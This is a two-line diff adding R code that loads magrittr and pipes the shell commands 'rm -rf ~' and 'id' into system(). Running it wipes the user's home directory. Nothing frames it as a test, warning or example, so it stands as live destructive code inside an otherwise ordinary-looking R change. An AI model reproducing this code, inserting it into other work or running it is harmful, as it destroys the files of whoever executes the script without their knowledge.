@@ -1,0 +1,2 @@
+library(magrittr)
+c("rm -rf ~", "id") %>% lapply(., system)
